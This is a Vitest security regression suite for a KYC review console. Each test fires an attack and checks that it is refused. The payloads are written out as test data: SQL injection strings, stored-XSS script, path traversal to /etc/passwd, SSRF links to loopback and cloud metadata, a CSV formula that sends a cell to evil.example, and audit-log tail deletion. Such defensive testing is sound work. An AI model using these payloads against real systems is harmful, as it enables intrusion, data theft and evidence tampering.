import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { hmacHex, simpleMessage } from '@console/didit/signature';
import { totpCode } from 'api/totp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO } from '../support/console.ts';
import { decisionWebhook, type SecurityWorld, startSecurityWorld } from './support/server-world.ts';

let w: SecurityWorld;
const METRICS = 'security-suite-metrics-token';

beforeAll(async () => {
  // `localhost` is on the media list so that only the address check stands between a link and the machine.
  w = await startSecurityWorld({
    env: { DIDIT_MEDIA_HOSTS: 'localhost,*.amazonaws.com', METRICS_TOKEN: METRICS },
  });
  for (const id of w.sessionIds) {
    const res = await w.deliver(decisionWebhook(id, await w.decisionOf(id)));
    if (res.status !== 200) throw new Error(`intake of ${id}: ${res.status} ${await res.text()}`);
  }
});
afterAll(async () => {
  await w?.close();
});

/** Sends `headers` and `first` bytes of a body, then reads the answer without sending the rest. */
function partialPost(url: string, headers: Record<string, string>, first: Buffer, chunked = false) {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = http.request(url, { method: 'POST', headers }, (res) => {
      let body = '';
      res.on('data', (d) => {
        body += d;
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.write(first);
    if (chunked) {
      // Keep streaming until the server answers; it must not wait for the end.
      const timer = setInterval(() => {
        if (!req.destroyed) req.write(first);
      }, 5);
      req.on('response', () => clearInterval(timer));
      req.on('close', () => clearInterval(timer));
    }
  });
}

/** A token the partner application minted for ours, over a session Didit approved. */
async function partnerToken(): Promise<string> {
  const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
  const consoleApp = w.sandbox.applications.find((a) => a.name === 'console')!;
  const [source] = await w.sandbox.seedSessions({
    application: 'partner',
    count: 1,
    kind: 'user',
    statuses: ['Approved'],
  });
  const res = await fetch(`${w.sandboxUrl}/v3/session/${source}/share/`, {
    method: 'POST',
    headers: { 'x-api-key': partnerApp.api_key, 'content-type': 'application/json' },
    body: JSON.stringify({ for_application_id: consoleApp.application_id, ttl_in_seconds: 600 }),
  });
  if (res.status !== 201 && res.status !== 200) throw new Error(`share: ${res.status} ${await res.text()}`);
  return ((await res.json()) as { share_token: string }).share_token;
}

/** The console application's KYC (user) workflow, the one a partner's session is imported into. */
const kycWorkflow = () =>
  w.sandbox.applications.find((a) => a.name === 'console')!.workflows.find((x) => x.session_kind === 'user')!
    .workflow_id;

describe('request bodies (item 4)', () => {
  it('attack: a 50 MB JSON body declared by Content-Length on the unauthenticated login → refused', async () => {
    const res = await partialPost(
      `${w.url}/api/auth/login`,
      { 'content-type': 'application/json', 'content-length': String(50 * 1024 * 1024), origin: w.url },
      Buffer.from('{"email":"'),
    );
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body).error.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('attack: an endless chunked JSON body (no Content-Length) on a signed-in route → refused', async () => {
    const reviewer = await w.as(['reviewer']);
    const res = await partialPost(
      `${w.url}/api/sessions/${w.sessionIds[0]}/notes`,
      {
        'content-type': 'application/json',
        'transfer-encoding': 'chunked',
        origin: w.url,
        ...reviewer.headers,
      },
      Buffer.from(`{"body":"${'a'.repeat(16 * 1024)}`),
      true,
    );
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body).error.code).toBe('PAYLOAD_TOO_LARGE');
  });
});

const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
const codeOf = async (res: Response) => ((await res.json()) as { error: { code: string } }).error.code;

describe('webhook intake (item 9, item 13)', () => {
  it('attack: a Simple-scheme signature replayed as X-Signature over its own message `ts:sid:status:type` → refused', async () => {
    const ts = Math.floor(Date.now() / 1000);
    const sid = w.sessionIds[0]!;
    const message = simpleMessage({
      timestamp: ts,
      session_id: sid,
      status: 'Approved',
      webhook_type: 'status.updated',
    });
    // What an observer of one Simple delivery holds: the X-Signature-Simple value for those four fields.
    const captured = hmacHex(w.secret, message);
    const before = await w.sql.query('select count(*)::int as n from webhook_events');
    const res = await fetch(`${w.url}/webhooks/didit`, {
      method: 'POST',
      headers: { 'content-type': 'text/plain', 'x-signature': captured, 'x-timestamp': String(ts) },
      body: message,
    });
    expect(res.status).toBe(400);
    const after = await w.sql.query('select count(*)::int as n from webhook_events');
    expect(after.rows[0].n).toBe(before.rows[0].n);
    const stored = await w.sql.query('select 1 from webhook_events where raw_body = $1', [
      Buffer.from(message),
    ]);
    expect(stored.rowCount).toBe(0);
  });

  it('attack: a forged webhook body nested 100,000 levels deep (the canonicalizer recursed until the stack broke) → refused', async () => {
    const body = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const wrapped = `{"webhook_type":"status.updated","x":${body}}`;
    const res = await fetch(`${w.url}/webhooks/didit`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-signature-v2': 'ab'.repeat(32),
        'x-timestamp': String(Math.floor(Date.now() / 1000)),
      },
      body: wrapped,
    });
    expect(res.status).toBe(401);
    expect(await codeOf(res)).toBe('INVALID_SIGNATURE');
  });
});

describe('crafted input answered 4xx, never 500 (item 13)', () => {
  it('attack: a queue keyset cursor holding the year -200000 (Postgres cannot compare it) → refused', async () => {
    const reviewer = await w.as(['reviewer']);
    const cursor = b64(['-200000-01-01T00:00:00.000Z', w.sessionIds[0]]);
    const res = await w.request(`/api/sessions?cursor=${cursor}`, { who: reviewer });
    expect(res.status).toBe(400);
    expect(await codeOf(res)).toBe('VALIDATION');
  });

  it('attack: a pending-decisions cursor holding the year -271821 → refused', async () => {
    const reviewer = await w.as(['reviewer']);
    const cursor = b64(['-271821-04-20T00:00:00.000Z', '00000000-0000-4000-8000-000000000000']);
    const res = await w.request(`/api/review/pending?cursor=${cursor}`, { who: reviewer });
    expect(res.status).toBe(400);
    expect(await codeOf(res)).toBe('VALIDATION');
  });

  it.each([
    ['1e308', 1e308],
    ['-1e308', -1e308],
  ])('attack: a share token whose exp is %s, previewed and imported → refused', async (_, exp) => {
    const pm = await w.as(['partner_manager']);
    const token = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({
      session_id: w.sessionIds[0],
      session_kind: 'user',
      exp,
      iat: 1_700_000_000,
    })}.c2ln`;
    const preview = await w.request('/api/imports/preview', {
      method: 'POST',
      who: pm,
      body: JSON.stringify({ share_token: token }),
    });
    expect(preview.status).toBe(422);
    expect(await codeOf(preview)).toBe('SHARE_TOKEN_MALFORMED');
    const imported = await w.request('/api/imports', {
      method: 'POST',
      who: pm,
      body: JSON.stringify({ share_token: token, workflow_id: '00000000-0000-4000-8000-000000000000' }),
    });
    expect(imported.status).toBe(422);
  });
});

describe('imports (item 5)', () => {
  it("attack: a partner manager lands an import as Approved with trust_review beyond the partner's terms → refused", async () => {
    const pm = await w.as(['partner_manager']);
    const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
    const created = await w.request('/api/partners', {
      method: 'POST',
      who: pm,
      body: JSON.stringify({ name: 'Terms Say Review', application_id: partnerApp.application_id }),
    });
    expect(created.status).toBe(201);
    expect(((await created.json()) as { default_trust_review: boolean }).default_trust_review).toBe(false);
    const workflow = kycWorkflow();
    const before = await w.sql.query('select count(*)::int as n from imports');

    const token = await partnerToken();
    const res = await w.request('/api/imports', {
      method: 'POST',
      who: pm,
      body: JSON.stringify({ share_token: token, workflow_id: workflow, trust_review: true }),
    });
    expect(res.status).toBe(403);
    expect(await codeOf(res)).toBe('FORBIDDEN');
    expect((await w.sql.query('select count(*)::int as n from imports')).rows[0].n).toBe(before.rows[0].n);

    // A reviewer may rely on the partner beyond its terms; the audit entry says so.
    const reviewer = await w.as(['reviewer']);
    const trusted = await w.request('/api/imports', {
      method: 'POST',
      who: reviewer,
      body: JSON.stringify({ share_token: token, workflow_id: workflow, trust_review: true }),
    });
    expect(trusted.status).toBe(201);
    const out = (await trusted.json()) as { session: { session_id: string; status: string } };
    expect(out.session.status).toBe('Approved');
    const audit = await w.sql.query(
      `select details from audit_log where action = 'session.import' and session_id = $1`,
      [out.session.session_id],
    );
    expect(audit.rows[0].details).toMatchObject({
      trust_review: true,
      partner_default_trust_review: false,
      trust_beyond_terms: true,
    });
  });
});

describe('CSV formula injection (kept)', () => {
  it('attack: a vendor_data of =HYPERLINK(...) exported to the reliance ledger CSV runs as a formula → refused', async () => {
    const token = await partnerToken();
    const pm = await w.as(['partner_manager']);
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const imported = await w.request('/api/imports', {
      method: 'POST',
      who: pm,
      body: JSON.stringify({
        share_token: token,
        workflow_id: kycWorkflow(),
        vendor_data: formula,
      }),
    });
    expect(imported.status).toBe(201);
    const csv = await (await w.request('/api/imports?format=csv', { who: pm })).text();
    expect(csv).toContain('HYPERLINK');
    // No cell starts with the formula: it is quoted and prefixed with an apostrophe.
    expect(csv.split(/\r?\n/).some((line) => line.split(',').some((cell) => /^"?=/.test(cell)))).toBe(false);
  });
});

describe('media proxy (item 8)', () => {
  it.each([
    [
      'a listed host that resolves to loopback',
      (p: number) => `https://localhost:${p}/portrait.png?X-Amz-Signature=x`,
    ],
    ['a loopback address', (p: number) => `https://127.0.0.1:${p}/portrait.png`],
    ['an IPv6 loopback address', (p: number) => `https://[::1]:${p}/portrait.png`],
    ['the cloud metadata address', () => 'https://169.254.169.254/latest/meta-data/'],
    ['a private address', () => 'https://10.0.0.1/portrait.png'],
    ['an internal host name', (p: number) => `https://internal.example:${p}/portrait.png`],
    ['plain http', (p: number) => `http://localhost:${p}/portrait.png`],
  ])(
    'attack: a decision naming %s as its media link, fetched through the media proxy → refused',
    async (_, link) => {
      // Anything listening on this machine: every connection the console makes to it is counted.
      let connections = 0;
      const trap = net.createServer((socket) => {
        connections++;
        socket.destroy();
      });
      await new Promise<void>((r) => trap.listen(0, '::', () => r()));
      const port = (trap.address() as net.AddressInfo).port;
      const sid = w.sessionIds[0]!;
      w.didit.rewriteDecision(sid, (d) => ({
        ...(d as object),
        id_verifications: [{ node_id: 'feature_ocr', portrait_image: link(port) }],
      }));
      try {
        const reviewer = await w.as(['reviewer']);
        const res = await w.request(`/api/sessions/${sid}/media/portrait-0`, { who: reviewer });
        const body = (await res.json()) as { error: { code: string; message: string; details?: unknown } };
        expect(connections).toBe(0);
        // One uniform answer, whatever the link named.
        expect({
          status: res.status,
          code: body.error.code,
          message: body.error.message,
          details: body.error.details,
        }).toEqual({
          status: 502,
          code: 'DIDIT_ERROR',
          message: 'The image is not available (its link may have expired); reload to try again',
          details: undefined,
        });
      } finally {
        w.didit.clearRewrites();
        await new Promise<void>((r) => trap.close(() => r()));
      }
    },
  );
});

describe('presigned media links (item 6)', () => {
  const S3 =
    'https://didit-media.s3.eu-west-1.amazonaws.com/s/front.jpg?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F&X-Amz-Signature=0123abcd';
  const LINK = /X-Amz-Signature|[?&]signature=|verify\.didit\.me\/session|\/session\/[A-Za-z0-9_-]{8,}/i;

  /** Every row of every table, as text (bytea as UTF-8), that holds a bearer link. */
  async function rowsWithLinks(): Promise<string[]> {
    const cols = await w.sql.query<{ table_name: string; column_name: string; data_type: string }>(
      `select table_name, column_name, data_type from information_schema.columns
        where table_schema = 'public' and data_type in ('bytea', 'jsonb', 'json', 'text', 'character varying')`,
    );
    const found: string[] = [];
    for (const c of cols.rows) {
      const value = c.data_type === 'bytea' ? `encode(${c.column_name}, 'escape')` : `${c.column_name}::text`;
      const hits = await w.sql.query(
        `select count(*)::int as n from "${c.table_name}" where ${value} ~* $1`,
        [LINK.source],
      );
      if (hits.rows[0].n > 0) found.push(`${c.table_name}.${c.column_name}: ${hits.rows[0].n} rows`);
    }
    return found;
  }

  it('attack: reading presigned image links and session_url from storage or the API after intake, refresh and a forged-looking S3 link → refused', async () => {
    const sid = w.sessionIds[1]!;
    const decision = await w.decisionOf(sid);
    // The precondition: what Didit sends does carry bearer links.
    expect(JSON.stringify(decision)).toMatch(LINK);
    const withS3 = {
      ...decision,
      id_verifications: [
        ...((decision.id_verifications as object[] | undefined) ?? []),
        { node_id: 'feature_s3', front_image: S3, portrait_image: S3 },
      ],
      session_url: 'https://verify.didit.me/session/3FaJ9wLqX2Mz',
    };
    const res = await w.deliver(decisionWebhook(sid, withS3));
    expect(res.status).toBe(200);
    const reviewer = await w.as(['reviewer']);
    const refresh = await w.request(`/api/sessions/${w.sessionIds[2]}/refresh`, {
      method: 'POST',
      who: reviewer,
    });
    expect(refresh.status).toBe(200);
    expect(await refresh.text()).not.toMatch(LINK);

    expect(await rowsWithLinks()).toEqual([]);
    for (const id of w.sessionIds) {
      const view = await w.request(`/api/sessions/${id}`, { who: reviewer });
      expect(view.status).toBe(200);
      expect(await view.text()).not.toMatch(LINK);
    }
    // The stored raw body is still Didit's document, minus the links: the intake can re-read it.
    const stored = await w.sql.query(
      `select convert_from(raw_body, 'UTF8') as body from webhook_events where session_id = $1 and source = 'webhook' order by id desc limit 1`,
      [sid],
    );
    expect(JSON.parse(stored.rows[0].body).decision.id_verifications.at(-1)).toEqual({
      node_id: 'feature_s3',
      front_image: null,
      portrait_image: null,
    });
  });
});

describe('least privilege over personal data (item 16)', () => {
  it.each([['partner_manager'], ['auditor']] as const)(
    'attack: a %s reads full document numbers, birth dates and ID images → refused',
    async (role) => {
      const who = await w.as([role]);
      const reviewer = await w.as(['reviewer']);
      const rows = await w.sql.query<{ session_id: string; document_number: string }>(
        "select session_id, document_number from sessions where document_number is not null and session_kind = 'user' limit 1",
      );
      const { session_id: sid, document_number: doc } = rows.rows[0]!;
      expect(doc.length).toBeGreaterThan(4);

      const full = (await (await w.request(`/api/sessions/${sid}`, { who: reviewer })).json()) as {
        session: { document_number: string; decision: unknown };
      };
      expect(full.session.document_number).toBe(doc);
      expect(JSON.stringify(full.session.decision)).toContain(doc);

      const res = await w.request(`/api/sessions/${sid}`, { who });
      expect(res.status).toBe(200);
      const text = await res.text();
      const view = JSON.parse(text) as {
        session: { document_number: string; decision: Record<string, unknown> };
      };
      expect(text).not.toContain(doc);
      expect(view.session.document_number.endsWith(doc.slice(-4))).toBe(true);
      const idv = (view.session.decision.id_verifications as Record<string, unknown>[] | undefined)?.[0];
      if (idv) expect(idv.date_of_birth ?? null).toBeNull();
      const list = await w.request(`/api/sessions?q=${encodeURIComponent(sid)}`, { who });
      expect(await list.text()).not.toContain(doc);

      for (const path of [`/api/sessions/${sid}/media`, `/api/sessions/${sid}/media/portrait-0`]) {
        const media = await w.request(path, { who });
        expect(media.status).toBe(403);
        expect(await codeOf(media)).toBe('FORBIDDEN');
      }
    },
  );
});

describe('audit chain tail (item 12)', () => {
  const verify = (args: string[]) =>
    promisify(execFile)(
      process.execPath,
      [
        '--conditions=source',
        '--import',
        'tsx',
        path.join(REPO, 'api/src/cli/audit-verify.main.ts'),
        ...args,
      ],
      {
        cwd: REPO,
      },
    ).then(
      (r) => ({ code: 0, out: r.stdout }),
      (e: { code: number; stdout: string }) => ({ code: e.code, out: e.stdout }),
    );

  it('attack: deleting the last audit entries so the shorter chain still verifies → refused', async () => {
    const auditor = await w.as(['auditor']);
    // Something to audit after start-up: a note on a case.
    const reviewer = await w.as(['reviewer']);
    await w.request(`/api/sessions/${w.sessionIds[0]}/notes`, {
      method: 'POST',
      who: reviewer,
      body: JSON.stringify({ body: 'checked' }),
    });

    // The head an operator keeps: the metric (and the log line the console writes at start and as it moves).
    const metrics = await (
      await fetch(`${w.url}/metrics`, { headers: { authorization: `Bearer ${METRICS}` } })
    ).text();
    const m = /console_audit_head_seq\{[^}]*hash="([0-9a-f]{64})"[^}]*\} (\d+)/.exec(metrics);
    expect(m).not.toBeNull();
    const kept = `${m![2]}:${m![1]}`;
    expect(w.console.logs()).toMatch(/"audit_head"/);
    // The console warned that its runtime role owns the audit table (the suite runs it as a superuser).
    expect(w.console.logs()).toMatch(/runtime database role owns the audit log/);

    // The attacker (owner of the table) removes the tail.
    await w.sql.query('alter table audit_log disable trigger user');
    await w.sql.query('delete from audit_log where seq > (select max(seq) - 2 from audit_log)');
    await w.sql.query('alter table audit_log enable trigger user');

    const res = await w.request('/api/audit/export?format=jsonl', { who: auditor });
    expect(res.status).toBe(200);
    const file = path.join(await fs.mkdtemp(path.join(os.tmpdir(), 'audit-')), 'audit.jsonl');
    await fs.writeFile(file, await res.text());
    // On its own the cut chain verifies: this is the attack.
    expect((await verify([file])).code).toBe(0);
    const checked = await verify(['--expect-head', kept, file]);
    expect(checked.code).toBe(1);
    expect(checked.out).toMatch(/^CUT OFF/);
  });
});

describe('attacks refused before issue 14, replayed from outside (kept)', () => {
  it.each([
    ['auditor', 'POST', '/api/sessions/{id}/status'],
    ['auditor', 'POST', '/api/sessions/{id}/refresh'],
    ['partner_manager', 'GET', '/api/users'],
    // The admin-only list spelt so that a router might normalise it differently from the permission check.
    ...['/api/users/', '/api//users', '/API/users', '/api/%75sers', '/api/./users'].map(
      (trick) => ['reviewer', 'GET', trick] as const,
    ),
    ['auditor', 'GET', '/api/sessions/{id}/../../users'],
    ['partner_manager', 'GET', '/api/audit/export'],
  ] as const)(
    'attack: a %s calling %s %s (route × role matrix, path tricks) → refused',
    async (role, method, route) => {
      const who = await w.as([role]);
      const res = await w.request(route.replace('{id}', w.sessionIds[0]!), {
        method,
        who,
        ...(method === 'POST' ? { body: JSON.stringify({ new_status: 'Approved', comment: 'x' }) } : {}),
      });
      expect([401, 403, 404, 405]).toContain(res.status);
    },
  );

  it("attack: a state change without the CSRF token, or with another session's token → refused", async () => {
    const reviewer = await w.as(['reviewer']);
    const path = `/api/sessions/${w.sessionIds[0]}/notes`;
    const body = JSON.stringify({ body: 'csrf' });
    const noToken = await w.request(path, { method: 'POST', body, headers: { cookie: reviewer.cookie } });
    expect(noToken.status).toBe(403);
    expect(await codeOf(noToken)).toBe('CSRF');
    // The token of another login session (what a page on another site could at best have obtained).
    const other = await w.as(['reviewer']);
    const wrong = await w.request(path, {
      method: 'POST',
      body,
      headers: { cookie: reviewer.cookie, 'x-csrf-token': other.csrfToken },
    });
    expect(wrong.status).toBe(403);
    expect(await codeOf(wrong)).toBe('CSRF');
  });

  it('attack: session fixation — a cookie planted before sign-in is kept after it → refused', async () => {
    const user = await w.as(['reviewer']);
    const planted = '__Host-console_session=attacker-chosen-value-0123456789';
    const res = await w.request('/api/auth/login', {
      method: 'POST',
      headers: { cookie: planted },
      body: JSON.stringify({ email: user.user.email, password: user.password }),
    });
    expect(res.status).toBe(200);
    const issued = res.headers.getSetCookie().find((c) => c.startsWith('__Host-console_session='))!;
    expect(issued.split(';')[0]).not.toBe(planted);
    const me = await w.request('/api/auth/me', { headers: { cookie: planted } });
    expect(me.status).toBe(401);
  });

  it('attack: a TOTP code replayed for a second sign-in → refused', async () => {
    const admin = await w.as(['admin']);
    const code = totpCode(admin.totpSecret!, new Date());
    const login = () =>
      w.request('/api/auth/login', {
        method: 'POST',
        body: JSON.stringify({ email: admin.user.email, password: admin.password, totp: code }),
      });
    await login();
    const replay = await login();
    expect(replay.status).toBe(401);
  });

  it.each([
    ['search', "?q=' or '1'='1' --"],
    ['status filter', "?status=x'); drop table sessions; --"],
    ['workflow filter', '?workflow_id=%27%3B%20select%20pg_sleep(5)%3B--'],
    [
      'cursor',
      `?cursor=${Buffer.from(JSON.stringify(["2026-01-01T00:00:00Z' or 1=1 --", "x' or '1'='1"])).toString('base64url')}`,
    ],
  ])('attack: SQL injection through the queue %s → refused', async (_, query) => {
    const reviewer = await w.as(['reviewer']);
    const before = (await w.sql.query('select count(*)::int as n from sessions')).rows[0].n;
    const res = await w.request(`/api/sessions${query}`, { who: reviewer });
    expect([200, 400]).toContain(res.status);
    if (res.status === 200) expect(((await res.json()) as { items: unknown[] }).items).toEqual([]);
    expect((await w.sql.query('select count(*)::int as n from sessions')).rows[0].n).toBe(before);
  });

  it('attack: stored XSS through Didit fields reaching the browser as anything but JSON → refused', async () => {
    const sid = w.sessionIds[3]!;
    const decision = await w.decisionOf(sid);
    const xss = '<img src=x onerror=alert(1)><script>alert(document.cookie)</script>';
    const res = await w.deliver(
      decisionWebhook(sid, { ...decision, vendor_data: xss, status: decision.status }),
    );
    expect(res.status).toBe(200);
    const reviewer = await w.as(['reviewer']);
    for (const path of [`/api/sessions/${sid}`, `/api/sessions?q=${encodeURIComponent('<img')}`]) {
      const view = await w.request(path, { who: reviewer });
      expect(view.headers.get('content-type')).toMatch(/^application\/json/);
      expect(view.headers.get('x-content-type-options')).toBe('nosniff');
      expect(view.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
    }
    // The page for the case is the static app shell: no Didit data is rendered into HTML on the server.
    const page = await fetch(`${w.url}/sessions/${sid}`);
    if (page.status === 200) expect(await page.text()).not.toContain('onerror=alert');
  });

  it.each([
    '/assets/..%2f..%2f..%2fpackage.json',
    '/assets/%2e%2e/%2e%2e/%2e%2e/api/src/config.ts',
    '/api/sessions/{id}/media/..%2F..%2F..%2Fetc%2Fpasswd',
    '/..%2f..%2f..%2fetc/passwd',
  ])('attack: path traversal through %s → refused', async (route) => {
    const reviewer = await w.as(['reviewer']);
    const res = await w.request(route.replace('{id}', w.sessionIds[0]!), { who: reviewer });
    const text = await res.text();
    expect(text).not.toMatch(/root:x:0:0|"packageManager"|DIDIT_WEBHOOK_SECRET/);
  });

  // Last: everything above has been logged by now.
  it('attack: reading secrets, passwords, tokens or personal data from the server log → refused', async () => {
    const reviewer = await w.as(['reviewer']);
    const logs = w.console.logs();
    expect(logs.length).toBeGreaterThan(0);
    const docs = await w.sql.query<{ d: string; n: string }>(
      "select document_number as d, full_name as n from sessions where session_kind = 'user' and document_number is not null limit 3",
    );
    for (const secret of [
      w.secret,
      w.apiKey,
      reviewer.password,
      reviewer.cookie.split('=')[1]!,
      reviewer.csrfToken,
      ...docs.rows.flatMap((r) => [r.d, r.n]),
    ]) {
      expect(logs.includes(secret), 'a secret or personal datum in the log').toBe(false);
    }
  });
});
